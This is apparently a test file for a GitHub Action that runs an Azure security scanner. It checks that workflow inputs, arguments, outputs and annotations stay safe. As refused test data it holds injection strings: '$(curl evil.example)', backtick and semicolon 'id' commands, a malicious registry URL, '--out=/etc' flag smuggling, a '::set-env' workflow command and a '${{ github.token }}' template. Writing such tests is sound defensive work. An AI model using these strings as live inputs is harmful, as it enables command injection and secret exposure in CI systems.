import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { argumentsOf } from '../../action/arguments.ts';
import { INPUTS, readInputs, variableOf } from '../../action/inputs.ts';
import { jobFaults, leakFaults, visibilityOf } from '../../action/leaving.ts';
import { MOST_SUMMARY_BYTES, annotation, outputLines, summaryWithin } from '../../action/runner.ts';
import { parsed } from '../cli/parsed.ts';
import { readOutputs } from './composite.ts';

const GUID = 'c0705000-0000-4000-8000-000000000001';

function asked(values: Readonly<Record<string, string>>) {
  return readInputs(Object.fromEntries(Object.entries(values).map(([name, value]) => [variableOf(name), value])));
}

function faultsOf(name: string, value: string): readonly string[] {
  return asked({ [name]: value }).faults;
}

describe('what a workflow asks', () => {
  it.each([
    ['tenant', GUID], ['tenant', 'contoso.onmicrosoft.com'], ['client-id', GUID], ['auth', 'github-oidc'], ['cloud', 'AzureUSGovernment'],
    ['subscriptions', 'Production\nLegacy, the old one'], ['subscriptions', 'Ünïcode 日本'], ['management-groups', 'root\r\nedge'], ['tags', 'env=prod\nteam=a=b'], ['config', 'security/portcullis.yaml'],
    ['rules', 'my rules'], ['assume', 'noSecurityAdminRules'], ['fail-on', 'low'], ['new-only', 'false'], ['allow-incomplete', 'true'], ['allow-incomplete', 'throttled\nSandbox'],
    ['redact', 'names,tags'], ['redact', 'all'], ['more-reports', 'junit\ncsv'], ['artifact-name', 'portcullis-2026.11'], ['retention-days', '90'], ['version', '0.1.0'], ['version', '1.0.0-rc.1'], ['version', 'local'],
  ])('%s takes %j', (name, value) => {
    expect(faultsOf(name, value)).toEqual([]);
  });

  it.each([
    ['tenant', '$(curl evil.example)'], ['tenant', `${GUID}\n--out=/etc`], ['tenant', '`id`'], ['tenant', 'a b'], ['client-id', 'contoso'], ['client-id', `${GUID} `.repeat(2)],
    ['auth', 'azure-pipelines'], ['auth', '--auth'], ['cloud', 'azurecloud'], ['subscriptions', '--out=/tmp/x'], ['subscriptions', 'Production\n-o json=-'], ['subscriptions', 'a\u0000b'], ['subscriptions', 'a\u202eb'],
    ['subscriptions', 'a\u2028::error::b'], ['subscriptions', 'x'.repeat(1025)], ['subscriptions', Array.from({ length: 501 }, (_, at) => `s${at}`).join('\n')], ['management-groups', '-x'], ['resource-groups', '--tag=a=b'],
    ['tags', 'env'], ['tags', '=prod'], ['tags', '--x=y'], ['snapshot', '-'], ['config', '--no-config'], ['config', 'a\u001b[2Jb'], ['rules', '--exit-zero'], ['waivers', '-rf'], ['baseline', '--'],
    ['assume', 'a;b'], ['fail-on', 'none'], ['fail-on', 'high\nlow'], ['new-only', 'yes'], ['exit-zero', 'TRUE'], ['redact', 'everything'], ['redact', 'names,'], ['more-reports', 'sarif'], ['artifact-name', '../up'],
    ['artifact-name', 'a/b'], ['artifact-name', '-x'], ['retention-days', '-1'], ['retention-days', '1e3'], ['version', 'latest'], ['version', '^0.1.0'], ['version', 'https://evil.example/x.tgz'], ['version', '0.1.0 --registry=https://evil.example'],
    ['version', '0.1.0\n0.2.0'], ['version', '../x'], ['summary', '${{ github.token }}'],
  ])('%s refuses %j, in one line that names it', (name, value) => {
    const faults = faultsOf(name, value);
    expect(faults.length).toBeGreaterThan(0);
    for (const fault of faults) expect(fault).toMatch(new RegExp(`^input ${name} (?:is|has) [^\\p{C}\\u2028\\u2029]+$`, 'u'));
  });

  it('says all faults at once', () => {
    expect(asked({ tenant: 'x y', 'fail-on': 'none', version: 'latest' }).faults).toHaveLength(3);
  });
});

/** Where the command line keeps what each input says; the other half of the table that the action goes by, written here anew. */
const KEPT: Readonly<Record<string, string>> = {
  subscriptions: 'subscription', 'management-groups': 'managementGroup', exclude: 'exclude', 'resource-groups': 'resourceGroup', rules: 'rules', waivers: 'waivers', assume: 'assume',
  tenant: 'tenant', cloud: 'cloud', auth: 'auth', config: 'config', baseline: 'baseline', 'fail-on': 'failOn',
  'new-only': 'newOnly', 'allow-empty': 'allowEmpty', 'activity-log': 'activityLog', 'fail-on-unused-waivers': 'failOnUnusedWaivers', 'exit-zero': 'exitZero',
};

/** What a shell, a parser or a template would act on, and is a name like any other here; and what is refused. */
const odd = fc.constantFrom("';id;'", '$(id)', '`id`', '${{ github.token }}', 'a b', '"', '\\', '%0A', '*', '~', 'json=-', 'x --exit-zero', '=', 'true', 'false', 'a,b', '日本');
const hostile = fc.oneof(
  { arbitrary: odd, weight: 12 }, { arbitrary: fc.string({ maxLength: 12 }), weight: 3 }, { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 1 },
  { arbitrary: fc.constantFrom('--out=/etc', '-o', '--', '--exit-zero', '--output=json=-', 'x\n--exit-zero', 'x\u2028y'), weight: 1 },
);

describe('the arguments', () => {
  it('are, to the command line, exactly what was asked, whatever it holds', async () => {
    const lists = ['subscriptions', 'management-groups', 'exclude', 'resource-groups', 'rules', 'waivers'];
    const texts = ['config', 'baseline'];
    const record = fc.record(Object.fromEntries([...lists, ...texts].map((name) => [name, fc.option(lists.includes(name) ? fc.array(hostile, { maxLength: 2 }).map((lines) => lines.join('\n')) : hostile, { nil: '' })])));
    const seen = { sound: 0, refused: 0 };
    await fc.assert(fc.asyncProperty(record, async (values) => {
      const { inputs, faults } = asked(values);
      if (faults.length > 0) return void (seen.refused += 1);
      seen.sound += 1;
      const argv = argumentsOf(inputs, '/tmp/run', false);
      for (const argument of argv.slice(1)) expect(argument).toMatch(/^--[a-z]/);
      const { command, options, args } = await parsed(argv);
      expect([command, args, options['exitZero'], options['out']]).toEqual(['scan', [], undefined, undefined]);
      expect(options['output']).toEqual(['json=/tmp/run/reports/results.json', 'html=/tmp/run/reports/report.html', 'sarif=/tmp/run/reports/results.sarif', 'markdown=/tmp/run/reports/summary.md']);
      for (const name of lists) expect(options[KEPT[name] ?? '']).toEqual(inputs[name]);
      for (const name of texts) expect(options[KEPT[name] ?? '']).toBe(inputs[name]?.[0]);
    }), { seed: 11, numRuns: 400 });
    expect(Math.min(seen.sound, seen.refused)).toBeGreaterThan(50);
  });

  it.each([
    ['tenant', GUID, GUID], ['cloud', 'AzureChinaCloud', 'AzureChinaCloud'], ['auth', 'managed-identity', 'managed-identity'], ['fail-on', 'low', 'low'],
    ['new-only', 'true', true], ['new-only', 'false', false], ['allow-empty', 'true', true], ['activity-log', 'false', false], ['fail-on-unused-waivers', 'true', true], ['exit-zero', 'true', true], ['assume', 'noSecurityAdminRules', ['noSecurityAdminRules']],
  ])('%s=%s is heard as %j', async (name, value, heard) => {
    const { options } = await parsed(argumentsOf(asked({ [name]: value }).inputs, '/f', false));
    expect(options[KEPT[name] ?? '']).toEqual(heard);
  });

  it('sign in by the identity of the job unless told otherwise, and not at all for a snapshot', async () => {
    expect((await parsed(argumentsOf(asked({}).inputs, '/f', false))).options['auth']).toBe('github-oidc');
    const { options } = await parsed(argumentsOf(asked({ snapshot: 'saved', redact: 'names,tags', tags: 'env=prod=1' }).inputs, '/f', true));
    expect(options).toMatchObject({ snapshot: 'saved', redact: ['names', 'tags'], tag: { env: 'prod=1' }, quiet: true });
    expect(options['auth']).toBeUndefined();
  });

  it.each([['true', true], ['false', false], ['throttled\nSandbox', ['throttled', 'Sandbox']]])('allow-incomplete=%j is heard as %j', async (value, heard) => {
    expect((await parsed(argumentsOf(asked({ 'allow-incomplete': value }).inputs, '/f', false))).options['allowIncomplete']).toEqual(heard);
  });

  it('leave to the configuration what was not given', () => {
    expect(argumentsOf(asked({}).inputs, '/f', false).filter((one) => !one.startsWith('--output=') && !one.startsWith('--auth='))).toEqual(['scan']);
  });
});

describe('what leaves the runner', () => {
  it.each([
    [{ repository: { visibility: 'private', private: true } }, undefined, 'private'], [{ repository: { visibility: 'internal', private: true } }, undefined, 'private'],
    [{ repository: { visibility: 'public', private: false } }, undefined, 'public'], [{ repository: { private: true } }, undefined, 'private'], [{ repository: { private: false } }, undefined, 'public'],
    [{ repository: { visibility: 'public', private: true } }, 'private', 'public'], [{ repository: { private: false } }, 'private', 'public'],
    [{ schedule: '0 0 * * *' }, undefined, 'unknown'], [{ schedule: '0 0 * * *' }, '', 'unknown'], [{ schedule: '0 0 * * *' }, 'private', 'private'], [{ schedule: '0 0 * * *' }, 'internal', 'private'], [{ schedule: '0 0 * * *' }, 'public', 'public'],
    [{ repository: { private: 'true' } }, undefined, 'unknown'], [{ repository: { visibility: 'secret' } }, 'private', 'unknown'], [undefined, undefined, 'unknown'], [null, undefined, 'unknown'],
  ])('%j and %j is %s', (event, told, visibility) => {
    expect(visibilityOf(event, told)).toBe(visibility);
  });

  it.each(['public', 'unknown'] as const)('of a repository that is %s: no snapshot at all, reports and summary only redacted', (visibility) => {
    const faults = (values: Readonly<Record<string, string>>): readonly string[] => leakFaults(asked(values).inputs, visibility).map((fault) => fault.split(':')[0] ?? '');
    expect(faults({ 'upload-reports': 'true', summary: 'true' })).toEqual(['input upload-reports, summary']);
    expect(faults({ 'upload-reports': 'true', summary: 'true', redact: 'names\ntags' })).toEqual(['input upload-reports, summary']);
    expect(faults({ 'upload-reports': 'false', summary: 'true' })).toEqual(['input summary']);
    expect(faults({ 'upload-reports': 'true', summary: 'true', redact: 'all', 'keep-snapshot': 'true' })).toEqual(['input keep-snapshot']);
    for (const redact of ['all', 'names,tags\nsubscriptions']) expect(faults({ 'upload-reports': 'true', summary: 'true', redact })).toEqual([]);
    expect(faults({ 'upload-reports': 'false', summary: 'false', 'upload-sarif': 'true' })).toEqual([]);
  });

  it('of a private repository: what was asked', () => {
    expect(leakFaults(asked({ 'upload-reports': 'true', summary: 'true', 'keep-snapshot': 'true' }).inputs, 'private')).toEqual([]);
  });
});

describe('what the job must be given', () => {
  const JOB = { ACTIONS_ID_TOKEN_REQUEST_URL: 'https://x', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'y', AZURE_CLIENT_ID: GUID };

  it.each([
    [{}, JOB, 'linux', []],
    [{ 'client-id': GUID }, { ...JOB, AZURE_CLIENT_ID: '' }, 'linux', []],
    [{}, { ...JOB, ACTIONS_ID_TOKEN_REQUEST_URL: '' }, 'linux', ['permissions: id-token: write']],
    [{}, {}, 'linux', ['permissions: id-token: write', 'client-id']],
    [{ snapshot: 'saved' }, {}, 'linux', []],
    [{ auth: 'managed-identity' }, {}, 'darwin', []],
    [{ snapshot: 'saved' }, {}, 'win32', ['Linux and macOS']],
  ])('%j with %j on %s lacks %j', (values, environment, platform, words) => {
    const faults = jobFaults(asked(values).inputs, environment, platform);
    expect(faults).toHaveLength(words.length);
    for (const [at, word] of words.entries()) expect(faults[at]).toContain(word);
  });
});

describe('what is told to the runner', () => {
  it('is one line, whatever an annotation quotes', () => {
    const text = annotation('error', 'a\n::set-env name=X::y\r100%');
    expect(text).toBe('::error title=Portcullis::a%0A::set-env name=X::y%0D100%25\n');
  });

  it('is read back as it was, whatever an output holds', () => {
    fc.assert(fc.property(fc.dictionary(fc.constantFrom('a', 'exit-code', 'sarif-file'), fc.string({ maxLength: 40 })), (outputs) => {
      expect(readOutputs(outputLines(outputs, 'end-5e3'))).toEqual(outputs);
    }), { seed: 3, numRuns: 200 });
    expect(readOutputs(outputLines({ a: 'x\nb=1\nc<<y', z: '1' }, 'end'))).toEqual({ a: 'x\nb=1\nc<<y', z: '1' });
  });

  it('is a summary of 1 MiB at most, cut at the end of a line', () => {
    const line = `| ${'ü'.repeat(40)} |\n`;
    const text = line.repeat(30_000);
    for (const taken of [0, 1, 7, MOST_SUMMARY_BYTES / 2, MOST_SUMMARY_BYTES - 200]) {
      const cut = summaryWithin(text, taken);
      expect(Buffer.byteLength(cut) + taken).toBeLessThanOrEqual(MOST_SUMMARY_BYTES);
      expect(Buffer.byteLength(cut) + taken).toBeGreaterThan(MOST_SUMMARY_BYTES - 200);
      const [kept = '', rest = ''] = cut.split('\n\nThe rest');
      expect(rest).toContain('left out');
      expect(`${kept}\n`.replaceAll(line, '').trim()).toBe('');
    }
    expect(summaryWithin('short\n', 10)).toBe('short\n');
    expect(summaryWithin('short\n', MOST_SUMMARY_BYTES)).toBe('');
  });
});

it('every input has a kind that refuses an open door', () => {
  for (const [name, { fits, expected }] of Object.entries(INPUTS)) {
    expect([name, fits('--out=/etc'), fits('a\nb'), fits('a\u0000')]).toEqual([name, false, false, false]);
    expect(expected).not.toBe('');
  }
});
